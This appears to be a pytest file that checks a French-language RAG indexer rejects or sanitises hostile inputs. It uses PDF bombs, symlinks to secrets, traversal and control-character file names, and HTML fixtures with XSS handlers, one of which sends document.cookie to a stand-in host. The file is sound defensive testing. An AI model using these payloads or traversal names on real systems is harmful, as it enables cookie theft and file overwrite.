"""Hostile and broken inputs, end to end: each one is refused in one line and the index keeps answering.

Unit-level decoding and per-format reasons live in test_ingest.py; here every bad
file goes through ``index_paths`` (or the upload path) against a real index of
the seeds, with the fast hashing embedder, and the test checks what the user
sees: the one-line reason, no new index version, and the same answer as before.
"""

from __future__ import annotations

import codecs
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from pdf_factory import (
    blank_pdf,
    cyclic_pages_pdf,
    encrypted_pdf,
    flate_bomb_pdf,
    heavy_content_pdf,
    nested_arrays_pdf,
    text_pdf,
    xref_loop_pdf,
)

from rag.answering.service import MAX_QUESTION_CHARS, Assistant
from rag.embedders.fake import HashingEmbedder
from rag.errors import UserError
from rag.indexing.catalog import list_documents
from rag.indexing.discover import absolute_path
from rag.indexing.indexer import index_paths
from rag.indexing.uploads import MAX_NAME_BYTES, MAX_NAME_CHARS, index_uploads, safe_filename, uploads_dir
from rag.ingest.loaders import pdf as pdf_loader
from rag.settings import Settings
from rag.store.index import IndexNotFoundError
from rag.store.versions import current_version
from ui.chat import NO_INDEX, Conversation, chat_turn

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"
ALIBABA = "Combien de personnes travaillaient dans le laboratoire quantique d’Alibaba ?"
# A PDF that must be stopped is given this long; generous for a busy machine, short for the suite.
PDF_TIMEOUT = 1.5
# Worst case for one bad file: the PDF time limit plus interpreter start-up on a loaded machine.
BOUND_SECONDS = 30


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """An index of the seeds built once, and the answer it gives to the reference question."""
    root = tmp_path_factory.mktemp("bad-inputs")
    corpus = root / "seeds"
    shutil.copytree(SEEDS, corpus, ignore=shutil.ignore_patterns("*.jsonl", "*.md"))
    settings = Settings(index_dir=root / "index", embedding_backend="fake")
    index_paths([corpus], settings, HashingEmbedder())
    answer = Assistant(settings, embedder=HashingEmbedder()).ask(ALIBABA)
    assert "30 personnes" in answer.text
    return settings.index_dir, answer.text


@pytest.fixture
def settings(base: tuple[Path, str], tmp_path: Path) -> Settings:
    """A private copy of the seeds' index for one test."""
    shutil.copytree(base[0], tmp_path / "index")
    return Settings(
        index_dir=tmp_path / "index",
        data_dir=tmp_path / "data",
        embedding_backend="fake",
        pdf_timeout_seconds=PDF_TIMEOUT,
    )


def answers_as_before(settings: Settings, base: tuple[Path, str]) -> None:
    assert Assistant(settings, embedder=HashingEmbedder()).ask(ALIBABA).text == base[1]


def refused(settings: Settings, base: tuple[Path, str], path: Path) -> str:
    """Index ``path`` (a file or folder holding only bad files); return the one skip reason."""
    before = current_version(settings.index_dir)
    started = time.monotonic()
    report = index_paths([path], settings, HashingEmbedder())
    assert time.monotonic() - started < BOUND_SECONDS
    assert not (report.added or report.updated or report.removed), report.as_json()
    (skipped,) = report.skipped
    assert skipped.reason and "\n" not in skipped.reason and len(skipped.reason) < 200
    assert "Traceback" not in skipped.reason
    assert current_version(settings.index_dir) == before, "a bad file must not publish a version"
    answers_as_before(settings, base)
    return skipped.reason


def _zip() -> bytes:
    return b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 4 + b"PK\x05\x06" + bytes(18)


def _exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(64) + b"PE\x00\x00" + bytes(256)


def _truncated() -> bytes:
    good = text_pdf([["Le port de Brest a accueilli 4 200 escales."], ["Deuxième page."]])
    return good[: len(good) // 2]


# (file name, bytes, how the one-line reason must start)
BAD_FILES: list[tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = [
    ("empty.txt", lambda: b"", "empty file"),
    ("blank.md", lambda: b" \n\t\r\n   \n", "empty file (only whitespace)"),
    ("blank-utf16.txt", lambda: codecs.BOM_UTF16_LE + "  \n \n".encode("utf-16-le"), "empty file (only whitespace)"),
    ("photo.txt", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 16, "binary file, not text"),
    ("noise.md", lambda: bytes(range(1, 32)) * 64, "binary file, not text"),
    ("archive.pdf", _zip, "not a PDF (no %PDF- header)"),
    ("setup.pdf", _exe, "not a PDF (no %PDF- header)"),
    ("setup.exe", _exe, "unsupported extension .exe"),
    ("truncated.pdf", _truncated, "corrupt PDF"),
    ("locked.pdf", lambda: encrypted_pdf(text_pdf([["Secret."]]), "secret"), "PDF is password-protected"),
    ("scan.pdf", blank_pdf, "PDF has no text layer (scanned?)"),
    # pypdf's own decompression limit stops it today; the worker's memory and time limits are the backstops.
    ("bomb.pdf", flate_bomb_pdf, ("corrupt PDF: LimitReachedError", "PDF needs more than", "PDF parsing took longer")),
    ("heavy.pdf", heavy_content_pdf, f"PDF parsing took longer than {PDF_TIMEOUT:g} s (pdf_timeout_seconds)"),
    ("nested.pdf", nested_arrays_pdf, "corrupt PDF"),
    ("cyclic.pdf", cyclic_pages_pdf, "corrupt PDF: Detected cyclic page references."),
    ("xref-loop.pdf", xref_loop_pdf, "PDF has no text layer (scanned?)"),
    ("deep.html", lambda: ("<html><body>" + "<div>" * 20_000 + "deep" + "</div>" * 20_000).encode(), "HTML"),
    ("scripts-only.html", lambda: b"<html><body><script>alert(1)</script><style>p{}</style></body></html>", "HTML"),
]


@pytest.mark.parametrize(("name", "make", "reason"), BAD_FILES, ids=[case[0] for case in BAD_FILES])
def test_bad_file_is_skipped_in_one_line_and_the_index_still_answers(
    settings: Settings,
    base: tuple[Path, str],
    tmp_path: Path,
    name: str,
    make: Callable[[], bytes],
    reason: str | tuple[str, ...],
) -> None:
    path = tmp_path / "incoming" / name
    path.parent.mkdir()
    path.write_bytes(make())
    assert refused(settings, base, path).startswith(reason)


def test_a_folder_of_bad_files_skips_each_and_keeps_the_good_one(
    settings: Settings, base: tuple[Path, str], tmp_path: Path
) -> None:
    folder = tmp_path / "mixed"
    folder.mkdir()
    for name, make, _ in BAD_FILES:
        if name not in {"heavy.pdf", "bomb.pdf"}:  # the slow ones are checked once above
            (folder / name).write_bytes(make())
    (folder / "good.md").write_text("# Brest\n\nLe port de Brest a accueilli 4 200 escales en 2022.\n")
    report = index_paths([folder], settings, HashingEmbedder())
    assert report.added == [str(folder / "good.md")]
    assert len(report.skipped) == len(BAD_FILES) - 2
    assert all(s.reason and "\n" not in s.reason for s in report.skipped)
    answers_as_before(settings, base)


def test_over_size_file_is_refused_before_parsing(settings: Settings, base: tuple[Path, str], tmp_path: Path) -> None:
    path = tmp_path / "huge.pdf"
    path.write_bytes(flate_bomb_pdf(4))
    small = settings.replace(max_file_bytes=1024)
    assert "above the 0.0 MB limit" in refused(small, base, path)


def test_special_files_are_never_read(settings: Settings, base: tuple[Path, str], tmp_path: Path) -> None:
    folder = tmp_path / "specials"
    folder.mkdir()
    os.mkfifo(folder / "pipe.txt")  # opening it would block forever
    assert refused(settings, base, folder) == "not a regular file"
    device = tmp_path / "zero.txt"
    device.symlink_to("/dev/zero")  # reading it would never end
    assert refused(settings, base, device) == "not a regular file"


# PDF worker limits -----------------------------------------------------------


def test_pdf_worker_applies_its_memory_limit(tmp_path: Path) -> None:
    """What the worker does when parsing wants more memory than allowed: one line, no crash."""
    greedy = (
        "import sys, rag.ingest.pdf_worker as w\n"
        "w.extract = lambda path: {'pages': [bytes(2 << 30).decode()]}\n"  # 2 GiB, above the 1 GiB limit
        "sys.exit(w.main(['pdf_worker', sys.argv[1]]))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", greedy, str(tmp_path / "any.pdf")],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == '{"skip": "PDF needs more than 1024 MB to parse"}'


def test_pdf_worker_killed_from_outside_is_one_line(
    settings: Settings, base: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The kernel's OOM killer (or anything) ending the worker: the file is skipped, nothing breaks."""
    killer = tmp_path / "killed-python"
    killer.write_text("#!/bin/sh\nkill -9 $$\n")
    killer.chmod(0o755)
    monkeypatch.setattr(pdf_loader.sys, "executable", str(killer))
    path = tmp_path / "report.pdf"
    path.write_bytes(text_pdf([["Une page."]]))
    assert refused(settings, base, path) == "PDF parser failed (exit code -9; out of memory?)"


# HTML ------------------------------------------------------------------------

ACTIVE_HTML = """<!DOCTYPE html><html><head><title>Rapport</title>
<script>document.cookie = "SECRET1"</script><script type="module">import("http://203.0.113.5/x.js")</script>
</head><body onload="alert('SECRET2')"><article>
<h1 onclick="steal('SECRET3')">Le port de Brest en 2022</h1>
<p onmouseover="fetch('http://203.0.113.5/?c=' + document.cookie)">Le port de Brest a accueilli 4 200 escales
de navires en 2022, un record depuis dix ans selon la chambre de commerce et d’industrie.</p>
<p>Les travaux du terminal <a href="javascript:alert('SECRET4')" onclick="x()">ouest</a> se termineront en 2025,
annonce le directeur du port.</p>
<img src="http://203.0.113.5/p.png" onerror="alert('SECRET5')"><svg onload="alert('SECRET6')">
<script>SECRET7()</script></svg><iframe src="javascript:alert('SECRET8')"></iframe><noscript>SECRET9</noscript>
<p>Le trafic de passagers a progressé de 12 % sur la même période, porté par les liaisons vers les îles.</p>
</article><script>window.SECRET10 = 1</script></body></html>"""

SHORT_ACTIVE_HTML = (
    "<html><body onload=\"alert('SECRET1')\"><div onclick=\"alert('SECRET2')\">Court texte visible.</div>"
    "<script>SECRET3()</script><svg><script>SECRET4</script></svg><style>.SECRET5{}</style></body></html>"
)


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        (ACTIVE_HTML, ["4 200 escales", "terminal ouest se termineront", "12 % sur la même période"]),
        (SHORT_ACTIVE_HTML, ["Court texte visible."]),  # short: the lxml fallback, not trafilatura
    ],
    ids=["article", "short-page"],
)
def test_html_text_is_kept_and_scripts_and_handlers_are_gone(
    settings: Settings, tmp_path: Path, markup: str, kept: list[str]
) -> None:
    path = tmp_path / "page.html"
    path.write_text(markup, encoding="utf-8")
    report = index_paths([path], settings, HashingEmbedder())
    assert report.added == [str(path)]
    docstore = Assistant(settings, embedder=HashingEmbedder()).snapshot().index.docstore
    (document,) = [d for d in docstore.documents() if d.path == str(path)]
    chunks = docstore.chunks(docstore.chunk_rows(document.id)).values()
    assert chunks
    for phrase in kept:
        assert " ".join(phrase.split()) in " ".join(document.text.split())
    for text in (document.text, document.title, *(c.text for c in chunks)):
        for leaked in ("SECRET", "alert", "onclick", "onload", "javascript:", "203.0.113.5", "<", "cookie"):
            assert leaked not in text


# File names ------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../../../etc/cron.d/evil.md",
    "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts.txt",
    "/etc/passwd",
    "/root/.ssh/authorized_keys.md",
    "C:\\boot.ini.txt",
    "\\\\server\\share\\notes.md",
    "~/.bashrc.md",
    "..",
    "../",
    "...",
    ".",
    "",
    " ",
    "\x00",
    "a\x00b.md",
    "report.md\x00.exe",
    "evil\n  added: 999.md",
    "\x1b[31mred\x1b[0m.txt",
    "\u202egnp.md",  # right-to-left override: shows as "md.png"
    "x" * 300,
    "x" * 300 + ".md",
    "é" * 300 + ".pdf",
    "a." + "b" * 300,
    "CON",
    "con.md",
    "NUL.txt",
    "aux.tar.gz",
    "COM1.md",
    "lpt9.txt",
    "Con .md",
    "%2e%2e%2fetc%2fpasswd.md",
    "-rf --no-preserve-root.md",
    "notes.md.",
    "notes.md   ",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=[ascii(n)[:40] for n in HOSTILE_NAMES])
def test_sanitised_name_always_stays_inside_the_uploads_folder(name: str, tmp_path: Path) -> None:
    safe = safe_filename(name)
    assert safe and safe == safe.strip() and not safe.startswith(".")
    assert not any(ch in safe for ch in "/\\\x00") and safe.isprintable()
    assert ".." not in safe and len(safe) <= MAX_NAME_CHARS and len(safe.encode()) <= MAX_NAME_BYTES
    assert safe.split(".", 1)[0].strip().casefold() not in {"con", "prn", "aux", "nul", "com1", "lpt9"}
    target = tmp_path / safe
    target.write_text("x")  # the OS accepts it
    assert target.resolve().parent == tmp_path.resolve()
    assert safe_filename(safe) == safe  # stable: a second pass changes nothing


def test_odd_names_on_disk_are_indexed_under_their_real_path(settings: Settings, tmp_path: Path) -> None:
    folder = tmp_path / "odd"
    folder.mkdir()
    names = [
        "evil\n  added: 999.md",
        "tab\there.txt",
        "-rf.md",
        "CON.txt",
        "quote\"'`$(id).md",
        "back\\slash.md",
        "l’été à Noël 🎄.md",
        "e\u0301te\u0301 (NFD).md",
        "a" * (255 - 3) + ".md",  # the longest name Linux allows
    ]
    for number, name in enumerate(names):
        (folder / name).write_text(f"# Note {number}\n\nLe bateau numéro {number} est arrivé à Brest.\n")
    with pytest.raises(OSError):  # 300 characters: the OS itself refuses, nothing to index
        (folder / ("b" * 297 + ".md")).write_text("x")
    report = index_paths([folder], settings, HashingEmbedder())
    assert not report.skipped
    assert sorted(report.added) == sorted(str(folder / name) for name in names)
    stored = {path for d in list_documents(settings) for path in d.paths}
    assert {str(folder / name) for name in names} <= stored
    # The same folder named through ".." and a relative path is the same folder: nothing new.
    again = index_paths([tmp_path / "odd" / ".." / "odd"], settings, HashingEmbedder())
    assert again.unchanged == len(names) and not again.added


def test_cli_shows_control_characters_in_names_instead_of_printing_them(settings: Settings, tmp_path: Path) -> None:
    folder = tmp_path / "odd"
    folder.mkdir()
    (folder / "evil\n  added: 999.md").write_text("Le bateau est arrivé à Brest.\n")
    (folder / "\x1b[2Jclear.md").write_text("")
    done = subprocess.run(
        [sys.executable, "-m", "rag.cli", "index", str(folder), "--index", str(settings.index_dir)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**os.environ, "RAG_EMBEDDING_BACKEND": "fake"},
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "evil\\n  added: 999.md" in done.stdout and "\\x1b[2Jclear.md: empty file" in done.stdout
    assert "\x1b" not in done.stdout
    # Summary lines are right-aligned labels; file names are indented under them, one per line.
    labels = [line.split(":")[0].strip() for line in done.stdout.splitlines() if not line.startswith(" " * 11)]
    assert labels == ["added", "updated", "removed", "unchanged", "skipped", "chunks embedded"]


def test_uploads_with_odd_names_are_stored_safely_and_indexed(settings: Settings, tmp_path: Path) -> None:
    incoming = tmp_path / "browser"
    incoming.mkdir()
    names = ["CON.md", "..notes.md", "evil\nname.md", "\u202egnp.md", "a" * 252 + ".md", "-rf.txt"]
    files = []
    for number, name in enumerate(names):
        path = incoming / name
        path.write_text(f"Le navire numéro {number} a accosté au port de Lorient le {number + 1} mai.\n")
        files.append(path)
    results = index_uploads(files, settings, HashingEmbedder())
    assert [r.status for r in results] == ["indexed"] * len(names), results
    folder = uploads_dir(settings).resolve()
    stored = sorted(p.name for p in folder.iterdir())
    assert sorted(r.name for r in results) == stored
    for name in stored:
        assert (folder / name).resolve().parent == folder and name == safe_filename(name)
    assert "_CON.md" in stored and "notes.md" in stored


def test_same_file_uploaded_twice_is_stored_once(settings: Settings, tmp_path: Path) -> None:
    article = tmp_path / "brest.md"
    article.write_text("# Brest\n\nLe port de Brest a accueilli 4 200 escales en 2022.\n", encoding="utf-8")
    renamed = tmp_path / "other" / "brest-copy.md"
    renamed.parent.mkdir()
    shutil.copy(article, renamed)
    first = index_uploads([article, article, renamed], settings, HashingEmbedder())
    assert [(r.name, r.status) for r in first] == [
        ("brest.md", "indexed"),
        ("brest.md", "unchanged"),
        ("brest-copy.md", "unchanged"),
    ]
    assert "same content as brest.md" in first[1].detail
    second = index_uploads([article], settings, HashingEmbedder())  # a later, separate upload
    assert [(r.name, r.status) for r in second] == [("brest.md", "unchanged")]
    assert sorted(p.name for p in uploads_dir(settings).iterdir()) == ["brest.md"]
    brest = [d for d in list_documents(settings) if d.title == "Brest"]
    assert len(brest) == 1 and brest[0].chunks == 1


# Symbolic links ---------------------------------------------------------------


def test_symbolic_links_leaving_the_folder_are_skipped(
    settings: Settings, base: tuple[Path, str], tmp_path: Path
) -> None:
    secret_dir = tmp_path / "private"
    secret_dir.mkdir()
    secret = secret_dir / "passwords.txt"
    secret.write_text("Mot de passe du coffre : hunter2-SECRET.\n")
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "secret.txt").symlink_to(secret)
    (folder / "relative.txt").symlink_to(Path("..") / "private" / "passwords.txt")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "private").symlink_to(secret_dir, target_is_directory=True)
    (folder / "dangling.md").symlink_to(tmp_path / "missing.md")
    (folder / "loop-a.md").symlink_to(folder / "loop-b.md")
    (folder / "loop-b.md").symlink_to(folder / "loop-a.md")
    (folder / "inside.md").write_text("# Dedans\n\nLe port de Brest a accueilli 4 200 escales.\n")
    (folder / "alias.md").symlink_to(folder / "inside.md")
    report = index_paths([folder], settings, HashingEmbedder())
    reasons = {Path(s.path).name: s.reason for s in report.skipped}
    assert reasons.pop("secret.txt") == reasons.pop("relative.txt") == f"symlink target is outside {folder}"
    assert reasons.pop("passwd.txt") == f"symlink target is outside {folder}"
    assert reasons.pop("private") == "symbolic link to a folder, not followed"
    assert reasons.pop("dangling.md").startswith("cannot read file")
    assert reasons.pop("loop-a.md").startswith("cannot read file")
    assert reasons.pop("loop-b.md").startswith("cannot read file")
    assert not reasons
    assert sorted(report.added) == [str(folder / "alias.md"), str(folder / "inside.md")]
    texts = " ".join(
        d.text for d in Assistant(settings, embedder=HashingEmbedder()).snapshot().index.docstore.documents()
    )
    assert "hunter2" not in texts and "root:" not in texts
    answers_as_before(settings, base)


# Questions ---------------------------------------------------------------------


def test_very_long_question_is_cut_and_answered(settings: Settings) -> None:
    question = (ALIBABA + " ") * (10_000 // (len(ALIBABA) + 1) + 1)
    question = question[:10_000]
    started = time.monotonic()
    answer = Assistant(settings, embedder=HashingEmbedder()).ask(question)
    assert time.monotonic() - started < 10
    assert "30 personnes" in answer.text and len(answer.question) == MAX_QUESTION_CHARS
    junk = "x" * 10_000  # one 10,000-character word: nothing to find, nothing breaks
    assert Assistant(settings, embedder=HashingEmbedder()).ask(junk).abstained


@pytest.mark.parametrize("question", ["", "   ", "\n\t "])
def test_empty_question_is_a_one_line_user_error(settings: Settings, question: str) -> None:
    with pytest.raises(UserError) as caught:
        Assistant(settings, embedder=HashingEmbedder()).ask(question)
    assert str(caught.value) == "The question is empty: type a question."


@pytest.mark.parametrize("question", ["😀🎉🔥", "🤔" * 500, "?", "!!! ...", "le la les", "the of"])
def test_question_without_words_abstains(settings: Settings, question: str) -> None:
    answer = Assistant(settings, embedder=HashingEmbedder()).ask(question)
    assert answer.abstained and not answer.citations and not answer.error
    conversation = Conversation()
    updates = list(chat_turn(Assistant(settings, embedder=HashingEmbedder()), question, conversation))
    final = updates[-1][0][-1]["content"]
    assert "rag-error" not in final and "rag-abstained" in final and answer.text in final


# Empty index -------------------------------------------------------------------


def test_folder_with_nothing_indexable_then_a_question(tmp_path: Path) -> None:
    junk = tmp_path / "junk"
    junk.mkdir()
    (junk / "empty.txt").write_bytes(b"")
    (junk / "tool.exe").write_bytes(b"MZ\x90\x00")
    (junk / "scan.pdf").write_bytes(blank_pdf())
    settings = Settings(index_dir=tmp_path / "index", embedding_backend="fake")
    report = index_paths([junk], settings, HashingEmbedder())
    assert report.empty_folders == [str(absolute_path(junk))] and len(report.skipped) == 3
    with pytest.raises(IndexNotFoundError) as caught:
        Assistant(settings, embedder=HashingEmbedder()).ask("Combien de navires ?")
    message = str(caught.value)
    assert "\n" not in message and "holds no documents" in message and "rag index" in message
    updates = list(chat_turn(Assistant(settings, embedder=HashingEmbedder()), "Combien de navires ?", Conversation()))
    assert NO_INDEX.split(":")[0] in updates[-1][0][-1]["content"]


def test_question_without_any_index_says_to_run_rag_index(tmp_path: Path) -> None:
    settings = Settings(index_dir=tmp_path / "nowhere", embedding_backend="fake")
    with pytest.raises(IndexNotFoundError) as caught:
        Assistant(settings, embedder=HashingEmbedder()).ask("Combien de navires ?")
    assert str(caught.value) == f"No index in {settings.index_dir}: run `rag index PATH` first."
    assert not settings.index_dir.exists(), "asking must not create an index folder"
